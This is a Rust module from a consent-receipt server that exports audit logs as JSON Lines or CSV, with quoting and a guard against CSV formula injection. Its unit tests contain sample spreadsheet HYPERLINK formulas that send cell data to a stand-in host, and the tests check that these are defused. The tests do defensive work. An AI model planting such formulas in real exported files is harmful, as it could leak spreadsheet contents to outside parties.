//! Exports of the log for auditors: JSON Lines or CSV, all receipts or a range of
//! `consentTimestamp`, in log order, read page by page so any size streams in constant memory.
//! Used by `GET /v1/export` and by `consentry-server export`.

use std::collections::BTreeMap;

use futures_util::Stream;
use serde::Serialize;

use crate::db::decisions::Decisions;
use crate::db::reads::{receipts_page, StoredReceipt};
use crate::db::{Db, DbError};
use crate::time::{format_millis, format_seconds, parse_day};

/// Receipts read per page.
const PAGE: i64 = 500;

/// An export format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// One JSON object per line.
    Jsonl,
    /// Comma-separated values with a header line.
    Csv,
}

impl std::str::FromStr for Format {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "jsonl" => Ok(Format::Jsonl),
            "csv" => Ok(Format::Csv),
            other => Err(format!("unknown export format `{other}`: use jsonl or csv")),
        }
    }
}

impl Format {
    /// The media type of the export.
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Jsonl => "application/x-ndjson",
            Format::Csv => "text/csv; charset=utf-8",
        }
    }

    /// The file extension.
    pub fn extension(self) -> &'static str {
        match self {
            Format::Jsonl => "jsonl",
            Format::Csv => "csv",
        }
    }
}

const CSV_HEADER: &str = "leaf_index,consent_receipt_id,principal,consent_timestamp,received_at,collection_method,\
policy_version,purposes,services,chain,prev_receipt_hash,receipt_hash,jws\n";

/// A time bound: `YYYY-MM-DD` (UTC midnight) or seconds since the epoch.
pub fn parse_bound(text: &str) -> Result<i64, String> {
    if let Some(day) = parse_day(text) {
        return Ok(day * 86_400);
    }
    text.parse().map_err(|_| format!("`{text}` is neither YYYY-MM-DD nor seconds since the epoch"))
}

/// One receipt as a JSON Lines export and a principal's history (`GET /v1/principals/…`) show it.
///
/// Members are in alphabetical order, the order these objects have always had (they were
/// `serde_json::Value`s, whose objects sort their keys); `decisions` is `null` if the stored
/// column cannot be read.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ExportedReceipt<'a> {
    /// The chain link as stored: `first`, `linked`, `break:…`.
    pub chain: &'a str,
    /// `collectionMethod`.
    pub collection_method: &'a str,
    /// `consentReceiptID`.
    #[serde(rename = "consentReceiptID")]
    pub consent_receipt_id: &'a str,
    /// `consentTimestamp`, seconds since the epoch.
    pub consent_timestamp: i64,
    /// `{"purposes":{…},"services":{…}}`.
    pub decisions: Option<Decisions>,
    /// The compact JWS.
    pub jws: &'a str,
    /// Position in the log.
    pub leaf_index: u64,
    /// `policyVersion`.
    pub policy_version: &'a str,
    /// `prevReceiptHash`.
    pub prev_receipt_hash: Option<&'a str>,
    /// `piiPrincipalId`.
    pub principal: &'a str,
    /// Hash of the JWS (what the principal's next receipt names as `prevReceiptHash`).
    pub receipt_hash: &'a str,
    /// Arrival at the server, RFC 3339 with milliseconds.
    pub received_at: String,
}

impl<'a> From<&'a StoredReceipt> for ExportedReceipt<'a> {
    fn from(r: &'a StoredReceipt) -> Self {
        ExportedReceipt {
            chain: &r.chain,
            collection_method: &r.collection_method,
            consent_receipt_id: &r.receipt_id,
            consent_timestamp: r.consent_ts,
            decisions: Decisions::parse(&r.decisions),
            jws: &r.jws,
            leaf_index: r.leaf_index,
            policy_version: &r.policy_version,
            prev_receipt_hash: r.prev_receipt_hash.as_deref(),
            principal: &r.principal,
            receipt_hash: &r.receipt_hash,
            received_at: format_millis(r.received_ms),
        }
    }
}

/// One receipt as a line of the export (newline included).
pub fn line(format: Format, r: &StoredReceipt) -> String {
    match format {
        Format::Jsonl => {
            // Cannot fail: strings, integers and maps with string keys only.
            let mut out = serde_json::to_string(&ExportedReceipt::from(r)).unwrap_or_default();
            out.push('\n');
            out
        }
        Format::Csv => {
            let decisions = Decisions::parse(&r.decisions).unwrap_or_default();
            let fields = [
                r.leaf_index.to_string(),
                r.receipt_id.clone(),
                r.principal.clone(),
                format_seconds(r.consent_ts),
                format_millis(r.received_ms),
                r.collection_method.clone(),
                defuse(&r.policy_version),
                defuse(&flags(&decisions.purposes)),
                defuse(&flags(&decisions.services)),
                r.chain.clone(),
                r.prev_receipt_hash.clone().unwrap_or_default(),
                r.receipt_hash.clone(),
                r.jws.clone(),
            ];
            let mut out = fields.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(",");
            out.push('\n');
            out
        }
    }
}

/// `analytics=granted;marketing=refused`.
fn flags(map: &BTreeMap<String, bool>) -> String {
    map.iter().map(|(k, v)| format!("{k}={}", if *v { "granted" } else { "refused" })).collect::<Vec<_>>().join(";")
}

/// A free-text cell that a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`,
/// tab or carriage return) gets a leading `'` (the OWASP advice against CSV injection). Only the
/// columns a browser chooses freely go through this; hashes and the JWS are written as they are
/// (a hash may start with `-`), so still open the file as text, not as formulas.
fn defuse(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// RFC 4180 quoting when needed.
fn csv_field(f: &str) -> String {
    if f.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", f.replace('"', "\"\""))
    } else {
        f.to_string()
    }
}

/// The export as chunks of text (a header, then one chunk per page).
pub fn chunks(
    db: Db,
    format: Format,
    from: i64,
    to: i64,
) -> impl Stream<Item = Result<String, DbError>> + Send + 'static {
    let header = (format == Format::Csv).then(|| CSV_HEADER.to_string());
    futures_util::stream::try_unfold((db, None::<u64>, header, false), move |(db, after, header, done)| async move {
        if let Some(h) = header {
            return Ok(Some((h, (db, after, None, done))));
        }
        if done {
            return Ok(None);
        }
        let page = receipts_page(&db, after, from, to, PAGE).await?;
        let Some(last) = page.last().map(|r| r.leaf_index) else { return Ok(None) };
        let done = (page.len() as i64) < PAGE;
        let text: String = page.iter().map(|r| line(format, r)).collect();
        Ok(Some((text, (db, Some(last), None, done))))
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    #[test]
    fn csv_quotes_and_defuses() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"x\""), "\"say \"\"x\"\"\"");
        assert_eq!(csv_field("-hash"), "-hash");
        for formula in ["=HYPERLINK(\"https://evil.example/?\"&A1,\"policy\")", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]
        {
            assert_eq!(defuse(formula), format!("'{formula}"));
        }
        assert_eq!(defuse("2026-11"), "2026-11");
        let hostile =
            StoredReceipt { policy_version: "=HYPERLINK(\"https://evil.example\",\"policy\")".into(), ..stored(None) };
        let line = line(Format::Csv, &hostile);
        assert!(line.contains(",\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"policy\"\")\","), "{line}");
        let map = BTreeMap::from([("b".to_string(), false), ("a".to_string(), true)]);
        assert_eq!(flags(&map), "a=granted;b=refused");
        assert_eq!(parse_bound("1970-01-02"), Ok(86_400));
        assert_eq!(parse_bound("1790000000"), Ok(1_790_000_000));
        assert!(parse_bound("yesterday").is_err());
    }

    /// A stored receipt for the wire-form tests.
    pub(crate) fn stored(prev: Option<&str>) -> StoredReceipt {
        StoredReceipt {
            leaf_index: 3,
            receipt_id: "r-1".into(),
            principal: "p-1".into(),
            consent_ts: 1_790_000_000,
            received_ms: 1_790_000_000_123,
            collection_method: "banner:accept-all".into(),
            policy_version: "2026-11".into(),
            decisions: r#"{"purposes":{"necessary":true,"analytics":false},"services":{"analytics/matomo":false}}"#
                .into(),
            prev_receipt_hash: prev.map(str::to_string),
            receipt_hash: "hash".into(),
            chain: "first".into(),
            sth_size: 4,
            jws: "h.p.s".into(),
            ack: "a.c.k".into(),
            leaf_hash: [0; 32],
        }
    }

    #[test]
    fn lines_keep_their_wire_form() {
        assert_eq!(
            line(Format::Jsonl, &stored(None)),
            concat!(
                r#"{"chain":"first","collectionMethod":"banner:accept-all","consentReceiptID":"r-1","#,
                r#""consentTimestamp":1790000000,"decisions":{"purposes":{"analytics":false,"necessary":true},"#,
                r#""services":{"analytics/matomo":false}},"jws":"h.p.s","leafIndex":3,"policyVersion":"2026-11","#,
                r#""prevReceiptHash":null,"principal":"p-1","receiptHash":"hash","receivedAt":"2026-09-21T14:13:20.123Z"}"#,
                "\n"
            )
        );
        assert_eq!(
            line(Format::Csv, &stored(Some("prev"))),
            "3,r-1,p-1,2026-09-21T14:13:20Z,2026-09-21T14:13:20.123Z,banner:accept-all,2026-11,\
             analytics=refused;necessary=granted,analytics/matomo=refused,first,prev,hash,h.p.s\n"
        );
        let unreadable = StoredReceipt { decisions: "not json".into(), ..stored(None) };
        assert!(line(Format::Jsonl, &unreadable).contains(r#""decisions":null,"#));
        assert!(line(Format::Csv, &unreadable).contains(",2026-11,,,first,"));
    }
}
